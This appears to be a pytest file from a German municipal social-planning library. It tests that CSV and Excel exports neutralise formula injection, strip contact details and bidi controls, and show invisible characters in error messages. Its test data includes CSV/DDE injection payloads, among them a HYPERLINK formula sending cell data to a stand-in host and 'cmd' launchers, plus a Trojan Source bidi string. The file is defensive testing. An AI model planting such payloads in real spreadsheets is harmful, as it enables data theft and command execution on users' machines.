"""What leaves the project: no formula in a table cell, no contact in any spelling, no bidi control in published text,
and invisible characters made visible in error messages (issue #28, items 4 and 8)."""

from __future__ import annotations

import csv
import datetime as dt
import shutil

import openpyxl
import pandas as pd
import pytest
from conftest import PARAMETERS

from veedel_lib.errors import DataValidationError, Problem, shown_value
from veedel_lib.params.areas import load_areas
from veedel_lib.render.blocks import Col, TableBlock
from veedel_lib.render.markup import escape, markdown_html
from veedel_lib.render.report import Report

FORMULAS = ['=HYPERLINK("http://boese.example/?"&A1;"Klick")', "=cmd|' /C calc'!A0", "+SUM(1+1)*cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+2", "\r=1+2", "  =1+2", "＝1+2"]
"""Cells a spreadsheet would run: the issue's payloads, each formula start of OWASP, leading spaces, full width."""

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")

EMAILS = ["anna.muster@traeger.de", "anna.muster＠traeger．de", "anna.muster@\u200btraeger.de",
          "anna.mus\u200bter@traeger.de", "anna.muster (at) traeger.de", "anna.muster[at]traeger.de",
          "anna.muster {at} traeger (dot) de", "anna.muster(ät)traeger(punkt)de", "anna.muster at traeger dot de",
          "ａｎｎａ＠ｔｒａｅｇｅｒ．ｄｅ", "anna.muster @ traeger.de", "anna.muster@tra\U0001d173eger.de",
          "anna.muster\n@traeger.de", "anna\u00admuster\u2062@traeger\ufeff.de"]
PHONES = ["0221 123456", "+49 221 123-456", "(0221) 12 34 56", "０２２１ １２３４５６", "0221/221-12345",
          "+49 (0)221 2212345", "0049 221 1234567", "0171 1234567", "Tel. 12 34 56", "Telefon: 221\u200b12345",
          "+49221123456"]
NO_CONTACTS = ["Drucksache AN/1234/2023", "AN/0123/2021", "Vorlage 0461/2023", "Vorlage 01234/2021",
               "im Jahr 2021", "2021–2025", "am 01.01.2021", "vom 01/2021 bis 12/2025", "1.250.000 €",
               "250 000 Euro", "Budget 12.345,67 EUR", "PLZ 50667 Köln", "01067 Dresden",
               "IBAN DE89 3704 0044 0532 0130 00", "Regionalschlüssel 053150000000", "Gemeindeschlüssel 05315000",
               "09:00-12:00 Uhr", "Stadtteil 802, Bezirk 8", "H-01, Z-2", "P-2022-07", "Quote 12,5 %",
               "Treffen at home", "Telefonaktion 2023", "@stadtkoeln auf Mastodon", "Bürger*innen@Köln"]
"""Numbers and words that look a little like contacts but are none: they stay as they are."""


def _fields(path) -> list[list[str]]:
    """The cells of a written CSV file as a spreadsheet's CSV import reads them (quotes honoured)."""
    with open(path, encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


# ----------------------------------------------------------------------------- item 4: no formulas

def test_a_report_table_never_writes_a_text_cell_that_starts_a_formula_and_keeps_numbers(tmp_path):
    labels = FORMULAS + ['Kalk";=1+2', "Kalk;=1+2", "-3", "Kalk"]
    frame = pd.DataFrame({"label": labels, "value": [-3.5] + [float(i) for i in range(1, len(labels))]})
    report = Report(tmp_path)
    report._display_html = lambda markup: None
    report.table(TableBlock("probe", "Probe", frame, [Col("label", "Bezeichnung"), Col("value", "Wert", "number",
                                                                                          decimals=1)]))
    rows = _fields(tmp_path / "probe.csv")
    written = [row[0] for row in rows[1:]]
    assert [w for w in written if w[:1] in TRIGGERS and w != "-3"] == []
    assert written[:len(FORMULAS)] == ["'" + f for f in FORMULAS]      # neutralised, nothing else changed
    assert written[len(FORMULAS):] == ['Kalk";=1+2', "Kalk;=1+2", "-3", "Kalk"]
    text = (tmp_path / "probe.csv").read_text(encoding="utf-8")
    assert '"Kalk"";=1+2"' in text and '"Kalk;=1+2"' in text             # embedded: quoted, quotes doubled (OWASP)
    assert "\n\"'=HYPERLINK(\"\"http:" in text
    assert "\n-3,11\n" in text and rows[1][1] == "-3.5"                   # numbers stay numbers, unquoted
    assert pd.read_csv(tmp_path / "probe.csv")["value"].tolist()[0] == -3.5


def test_a_written_data_folder_table_neutralises_text_and_quotes_every_separator(tmp_path):
    from veedel_lib.inputs.wide_import import write_long_csv

    frame = pd.DataFrame({"unit": ["101", "=1+2", "a,=1+2"], "year": [2012, 2012, 2012],
                          "variable": ["population", "@SUM(A1)", "x"], "count": ["27494", "-", "*"]})
    write_long_csv(frame, tmp_path / "statistics_x.csv")
    lines = (tmp_path / "statistics_x.csv").read_text(encoding="utf-8").splitlines()
    assert lines == ["unit;year;variable;count", "101;2012;population;27494", "'=1+2;2012;'@SUM(A1);-",
                     '"a,=1+2";2012;x;*']


def _kalk():
    return load_areas(PARAMETERS / "areas.yml").get("kalk")


def test_a_written_plan_workbook_stores_formula_like_texts_as_text(demo, tmp_path):
    from veedel_lib.planning.schema import load_config
    from veedel_lib.planning.templates import write_plan_workbook
    from veedel_lib.planning.validation import vocabularies

    config = load_config(PARAMETERS)
    lists = vocabularies(config, PARAMETERS, demo.catalogue)
    lists = {name: values + ["=cmd|' /C calc'!A0"] if name == next(iter(lists)) else values
             for name, values in lists.items()}
    records = {"Strategien": pd.DataFrame({"Gebiet": ["Kalk"] * len(FORMULAS), "Strategie": FORMULAS})}
    path = write_plan_workbook(tmp_path / "kalk.xlsx", _kalk(), config, lists, records, "2021–2025",
                               dt.date(2025, 1, 1))
    workbook = openpyxl.load_workbook(path)
    cells = [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "no cell is a formula"
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if t[:1] in TRIGGERS]
    assert "'=cmd|' /C calc'!A0" in texts and "'" + FORMULAS[0] in texts


def test_a_written_documentation_workbook_stores_formula_like_texts_as_text(tmp_path):
    from veedel_lib.kernprozess.schema import SHEETS, load_config
    from veedel_lib.kernprozess.templates import write_workbook

    themes = next(s for s in SHEETS if s.key == "themes")
    record = {c.header: "" for c in themes.columns} | {"Gebiet": "Kalk", "Titel": "@SUM(1+1)*cmd|' /C calc'!A0"}
    path = write_workbook(tmp_path / "kalk.xlsx", _kalk(), load_config(PARAMETERS),
                          {themes.name: pd.DataFrame([record])}, dt.date(2025, 1, 1))
    cell = next(c for row in openpyxl.load_workbook(path)[themes.name].iter_rows() for c in row
                if isinstance(c.value, str) and "SUM" in c.value)
    assert cell.data_type == "s" and cell.value == "'@SUM(1+1)*cmd|' /C calc'!A0"


# ----------------------------------------------------------------------------- item 8: contacts in every spelling

@pytest.mark.parametrize("text", EMAILS + PHONES)
def test_a_contact_is_found_and_removed_in_every_spelling(text):
    from veedel_lib.safe_output import CONTACT_MARK, without_contacts

    cleaned, found = without_contacts(f"Rückfragen: {text}, danke.")
    kept = text.split(" ")[0] + " " if text.startswith("Tel") else ""      # "Tel." stays, the number goes
    assert cleaned == f"Rückfragen: {kept}{CONTACT_MARK}, danke.", cleaned
    assert [c.kind for c in found] == ["E-Mail-Adresse" if text in EMAILS else "Telefonnummer"]


@pytest.mark.parametrize("text", NO_CONTACTS)
def test_numbers_and_words_that_are_no_contacts_stay(text):
    from veedel_lib.safe_output import find_contacts, published_text

    assert find_contacts(text) == [] and published_text(text) == text


def _plan_folder(demo, tmp_path):
    folder = tmp_path / "daten"
    shutil.copytree(demo.data_dir / "dokumentation", folder / "dokumentation")
    (folder / "plaene").mkdir()
    shutil.copy2(demo.data_dir / "plaene" / "kalk.xlsx", folder / "plaene" / "kalk.xlsx")
    import dataclasses

    return folder, dataclasses.replace(demo, data_dir=folder)


def test_a_plan_workbook_refuses_a_contact_in_public_text_in_every_spelling(demo, tmp_path):
    from veedel_lib.planning import load_plans

    folder, ds = _plan_folder(demo, tmp_path)
    path = folder / "plaene" / "kalk.xlsx"
    workbook = openpyxl.load_workbook(path)
    sheet = workbook["Strategien"]
    column = [c.value for c in sheet[1]].index("Strategie") + 1
    rows = [r for r in range(2, sheet.max_row + 1) if sheet.cell(row=r, column=column).value]
    spellings = EMAILS + PHONES
    assert len(rows) >= 4
    problems = {}
    for start in range(0, len(spellings), len(rows)):
        chunk = spellings[start:start + len(rows)]
        for row, text in zip(rows, chunk):
            sheet.cell(row=row, column=column).value = f"Abstimmung mit dem Träger ({text})"
        workbook.save(path)
        with pytest.raises(DataValidationError) as caught:
            load_plans(ds, PARAMETERS, today=dt.date(2025, 6, 30))
        found = {p.row: p.reason for p in caught.value.problems if p.column == "Strategie"}
        for row, text in zip(rows, chunk):
            problems[text] = found.get(row, "")
    missed = {text: reason for text, reason in problems.items()
              if ("E-Mail-Adresse" if text in EMAILS else "Telefonnummer") not in reason}
    assert missed == {}


def test_qualitative_findings_lose_every_contact_and_bidi_control_with_a_note(demo, tmp_path):
    from veedel_lib.reports.sozialraumgebietsanalyse import AreaAnalysis

    spellings = EMAILS + PHONES
    notes = tmp_path / "qualitative"
    notes.mkdir()
    (notes / "kalk.md").write_text("## Fachgespräche\n\n" + "\n\n".join(
        f"Befund {i}: Kontakt über {text} (Jugendzentrum)." for i, text in enumerate(spellings)) +
        "\n\nDer Spielplatz wird \u202egut angenommen\u202c.\n", encoding="utf-8")
    blocks = AreaAnalysis.open("kalk", dataset=demo, parameters_dir=PARAMETERS).qualitative(notes)
    markdown = "\n".join(b.markdown for b in blocks)
    shown = "\n".join(markdown_html(b.markdown) for b in blocks)
    for text in spellings:
        assert text not in markdown and text not in shown
    assert markdown.count("[Kontakt entfernt]") == len(spellings) + 1          # and once in the note
    assert f"{len(spellings)} Kontaktangaben" in blocks[-1].markdown
    assert "\u202e" not in shown and "\u202c" not in shown and "gut angenommen" in shown
    assert "Befund 0: Kontakt über [Kontakt entfernt] (Jugendzentrum)." in markdown


def test_a_public_free_text_column_of_the_documentation_would_lose_its_contacts(tmp_path, monkeypatch):
    """Every free-text column of the documentation is private (dropped); were one made public, its contacts and
    bidi controls would still never reach a table."""
    import dataclasses

    from veedel_lib.kernprozess import documentation
    from veedel_lib.kernprozess.schema import SHEETS, load_config
    from veedel_lib.kernprozess.templates import write_workbook

    meetings = next(s for s in SHEETS if s.key == "meetings")
    record = {"Gebiet": "Kalk", "Art": load_config(PARAMETERS).vocabularies["gremienarten"][0],
              "Datum": dt.date(2023, 3, 1), "Teilnehmende (Anzahl)": 12, "Organisationen (Anzahl)": 4,
              "Notiz": "Rückruf unter (0221) 12 34 56 oder anna＠traeger.de \u202eok"}
    folder = tmp_path / "daten"
    write_workbook(folder / "dokumentation" / "kalk.xlsx", _kalk(), load_config(PARAMETERS),
                   {meetings.name: pd.DataFrame([record])[[c.header for c in meetings.columns]]}, dt.date(2025, 1, 1))
    public = tuple(dataclasses.replace(s, columns=tuple(dataclasses.replace(c, private=False) if c.key == "note"
                                                        else c for c in s.columns)) if s.key == "meetings" else s
                   for s in SHEETS)
    monkeypatch.setattr(documentation, "SHEETS", public)
    loaded = documentation.load_documentation(folder, PARAMETERS, ["kalk"], today=dt.date(2025, 1, 1))
    assert loaded.meetings["note"].tolist() == ["Rückruf unter [Kontakt entfernt] oder [Kontakt entfernt] ok"]


def test_bidi_controls_never_reach_a_published_text_or_table(tmp_path):
    trojan = "Kalk \u202eTNEMELPMI\u202c \u2066x\u2069 \u200e\u200f\u061c\u202a\u202b\u202d\u2067\u2068Ende"
    assert escape(trojan) == "Kalk TNEMELPMI x Ende"
    assert markdown_html(trojan) == "<p>Kalk TNEMELPMI x Ende</p>\n"
    report = Report(tmp_path)
    report._display_html = lambda markup: None
    report.table(TableBlock("probe", "Probe", pd.DataFrame({"label": [trojan]}), [Col("label", "Bezeichnung")]))
    assert _fields(tmp_path / "probe.csv")[1] == ["Kalk TNEMELPMI x Ende"]


def test_a_german_error_message_shows_invisible_characters_as_code_points(tmp_path):
    from veedel_lib.kernprozess.documentation import load_documentation
    from veedel_lib.kernprozess.schema import SHEETS, load_config
    from veedel_lib.kernprozess.templates import write_workbook

    themes = next(s for s in SHEETS if s.key == "themes")
    config = load_config(PARAMETERS)
    record = {"Gebiet": "Kalk\u200b", "Datum": dt.date(2023, 3, 1),
              "Handlungsfeld": config.vocabularies["handlungsfelder"][0],
              "Quelle": config.vocabularies["themenquellen"][0], "Status": config.vocabularies["themenstatus"][0],
              "an Sozialplanung weitergegeben": "ja", "Titel": "Spielplatz"}
    folder = tmp_path / "daten"
    write_workbook(folder / "dokumentation" / "kalk.xlsx", _kalk(), config,
                   {themes.name: pd.DataFrame([record])[[c.header for c in themes.columns]]}, dt.date(2025, 1, 1))
    with pytest.raises(DataValidationError) as caught:
        load_documentation(folder, PARAMETERS, ["kalk"], today=dt.date(2025, 1, 1))
    assert "Gebiet 'Kalk[U+200B]' passt nicht zur Datei" in str(caught.value)
    assert shown_value("1\u200b000\u202e") == "'1[U+200B]000[U+202E]'"
    assert str(Problem("a.csv", 2, "count", "keine Zahl: 1\ufeff2\u2060")) == \
        "a.csv, Zeile 2, Spalte 'count': keine Zahl: 1[U+FEFF]2[U+2060]"
